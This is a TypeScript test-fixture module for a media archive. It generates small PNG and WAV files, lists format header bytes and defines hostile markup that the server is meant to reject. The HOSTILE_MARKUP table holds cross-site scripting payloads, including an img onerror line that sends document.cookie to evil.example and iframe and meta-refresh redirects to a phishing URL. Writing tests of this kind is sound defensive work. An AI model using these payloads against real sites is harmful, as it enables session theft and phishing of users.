/**
 * Small, valid media files made in memory: a PNG of one colour and a short WAV tone. For tests that
 * need a browser to decode real files (no binary fixtures in the repository).
 */
import { crc32, deflateSync } from 'node:zlib';
import type { MediaRefPlace } from '../../functions/domain/media-refs.ts';
import type { ManifestRow } from '../../functions/query/media-manifest.ts';

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A `width`×`height` RGB PNG filled with `rgb`, with a darker diagonal so it is not blank. */
export function pngImage(width: number, height: number, rgb: readonly [number, number, number]): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(8, 8); // bit depth
  header.writeUInt8(2, 9); // colour type: RGB
  const raw = Buffer.alloc((width * 3 + 1) * height);
  for (let y = 0; y < height; y++) {
    const row = y * (width * 3 + 1);
    raw[row] = 0; // filter: none
    for (let x = 0; x < width; x++) {
      const dark = Math.abs(x - (y * width) / height) < 2 ? 0.5 : 1;
      raw[row + 1 + x * 3] = Math.round(rgb[0] * dark);
      raw[row + 2 + x * 3] = Math.round(rgb[1] * dark);
      raw[row + 3 + x * 3] = Math.round(rgb[2] * dark);
    }
  }
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(raw)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A mono 8 kHz 16-bit PCM WAV with a 440 Hz tone of `seconds`. */
export function wavTone(seconds: number): Buffer {
  const rate = 8000;
  const samples = Math.round(rate * seconds);
  const data = Buffer.alloc(samples * 2);
  for (let i = 0; i < samples; i++)
    data.writeInt16LE(Math.round(8000 * Math.sin((2 * Math.PI * 440 * i) / rate)), i * 2);
  const header = Buffer.alloc(44);
  header.write('RIFF', 0, 'ascii');
  header.writeUInt32LE(36 + data.length, 4);
  header.write('WAVEfmt ', 8, 'ascii');
  header.writeUInt32LE(16, 16);
  header.writeUInt16LE(1, 20); // PCM
  header.writeUInt16LE(1, 22); // mono
  header.writeUInt32LE(rate, 24);
  header.writeUInt32LE(rate * 2, 28);
  header.writeUInt16LE(2, 32);
  header.writeUInt16LE(16, 34);
  header.write('data', 36, 'ascii');
  header.writeUInt32LE(data.length, 40);
  return Buffer.concat([header, data]);
}

/** The manifest row the media copier writes for an archived reference. */
export function archivedManifestRow(
  ref: MediaRefPlace,
  objectKey: string,
  contentType: string,
  bytes: number,
): ManifestRow {
  return {
    group_id: ref.groupId,
    topic_id: ref.topicId,
    msg_seq: ref.msgSeq,
    element_path: ref.elementPath,
    size_class: ref.sizeClass,
    status: 'archived',
    object_key: objectKey,
    content_type: contentType,
    bytes,
  };
}

/**
 * Markup served in place of an image, a voice message or a video (issue 21): an SVG with a script
 * and HTML fragments that run code or navigate when a browser renders them. Each must be refused
 * for those kinds whatever the Content-Type says.
 */
export const HOSTILE_MARKUP: Readonly<Record<string, string>> = {
  'SVG with a script':
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>',
  'SVG after an XML declaration':
    '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  '<img onerror>': '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">',
  '<iframe>': '<iframe src="https://evil.example/phish" width="100%" height="100%"></iframe>',
  '<meta refresh>': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'HTML comment first': '<!-- cache --><html><body onload="alert(1)"></body></html>',
};

/** The same markup as sent: UTF-8, after a BOM and whitespace, and in UTF-16 (with and without BOM). */
export function markupEncodings(markup: string): Record<string, Buffer> {
  const utf16be = Buffer.from(markup, 'utf16le').swap16();
  return {
    'UTF-8': Buffer.from(markup, 'utf8'),
    'UTF-8 BOM and whitespace': Buffer.from(`\uFEFF \r\n\t ${markup}`, 'utf8'),
    'UTF-16LE BOM': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(markup, 'utf16le')]),
    'UTF-16BE': utf16be,
  };
}

/** `text` padded with spaces (or cut) to exactly `bytes`: hostile markup of a declared size. */
export function exactly(bytes: number, text: Buffer): Buffer {
  const out = Buffer.alloc(bytes, 0x20);
  text.copy(out, 0, 0, Math.min(bytes, text.length));
  return out;
}

/**
 * First bytes of real files of each format, with the kinds they fit (`image` also stands for a
 * video's thumbnail). MPEG-4 and WebM containers hold voice or video alike.
 */
export const MEDIA_HEADS: readonly {
  format: string;
  fits: readonly ('image' | 'sound' | 'video')[];
  head: Buffer;
}[] = [
  { format: 'JPEG', fits: ['image'], head: Buffer.from('ffd8ffe000104a46494600010100', 'hex') },
  { format: 'PNG', fits: ['image'], head: pngImage(2, 2, [200, 10, 10]) },
  { format: 'GIF', fits: ['image'], head: Buffer.from('GIF89a\x01\x00\x01\x00\x80\x00\x00', 'latin1') },
  { format: 'WebP', fits: ['image'], head: Buffer.from('RIFF\x24\x00\x00\x00WEBPVP8 ', 'latin1') },
  {
    format: 'BMP',
    fits: ['image'],
    head: Buffer.from('BM\x46\x00\x00\x00\x00\x00\x00\x00\x36\x00', 'latin1'),
  },
  { format: 'TIFF', fits: ['image'], head: Buffer.from('49492a0008000000', 'hex') },
  { format: 'ICO', fits: ['image'], head: Buffer.from('00000100010010100000', 'hex') },
  {
    format: 'HEIC',
    fits: ['image'],
    head: Buffer.from('\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic', 'latin1'),
  },
  {
    format: 'AVIF',
    fits: ['image'],
    head: Buffer.from('\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf', 'latin1'),
  },
  { format: 'AMR', fits: ['sound'], head: Buffer.from('#!AMR\n\x3c\x48\xf5', 'latin1') },
  { format: 'SILK', fits: ['sound'], head: Buffer.from('\x02#!SILK_V3\x0c\x00', 'latin1') },
  { format: 'SILK without 0x02', fits: ['sound'], head: Buffer.from('#!SILK_V3\x0c\x00', 'latin1') },
  { format: 'MP3 (ID3)', fits: ['sound'], head: Buffer.from('ID3\x04\x00\x00\x00\x00\x00\x00', 'latin1') },
  { format: 'MP3 (frame)', fits: ['sound'], head: Buffer.from('fffb9064', 'hex') },
  { format: 'AAC (ADTS)', fits: ['sound'], head: Buffer.from('fff15080', 'hex') },
  {
    format: 'M4A',
    fits: ['sound', 'video'],
    head: Buffer.from('\x00\x00\x00\x1cftypM4A \x00\x00\x00\x00M4A mp42isom', 'latin1'),
  },
  { format: 'Ogg', fits: ['sound'], head: Buffer.from('OggS\x00\x02', 'latin1') },
  { format: 'WAV', fits: ['sound'], head: wavTone(0.01) },
  { format: 'FLAC', fits: ['sound'], head: Buffer.from('fLaC\x00\x00\x00\x22', 'latin1') },
  { format: 'WebM (voice)', fits: ['sound', 'video'], head: Buffer.from('1a45dfa39f4286810142f7', 'hex') },
  {
    format: 'MP4',
    fits: ['sound', 'video'],
    head: Buffer.from('\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41', 'latin1'),
  },
  {
    format: 'MOV',
    fits: ['sound', 'video'],
    head: Buffer.from('\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00qt  ', 'latin1'),
  },
  {
    format: '3GP',
    fits: ['sound', 'video'],
    head: Buffer.from('\x00\x00\x00\x14ftyp3gp4\x00\x00\x00\x00isom', 'latin1'),
  },
  { format: 'WebM', fits: ['sound', 'video'], head: Buffer.from('1a45dfa3a34286810142f7', 'hex') },
  { format: 'AVI', fits: ['video'], head: Buffer.from('RIFF\x00\x10\x00\x00AVI LIST', 'latin1') },
  { format: 'FLV', fits: ['video'], head: Buffer.from('FLV\x01\x05\x00\x00\x00\x09', 'latin1') },
  { format: 'MPEG-TS', fits: ['video'], head: transportStream() },
  { format: 'MPEG-PS', fits: ['video'], head: Buffer.from('000001ba440004000401', 'hex') },
];

/** Three 188-byte MPEG-TS packets, each starting with the 0x47 sync byte. */
function transportStream(): Buffer {
  const packets = Buffer.alloc(188 * 3, 0xff);
  for (let i = 0; i < 3; i++) packets.writeUInt8(0x47, i * 188);
  return packets;
}
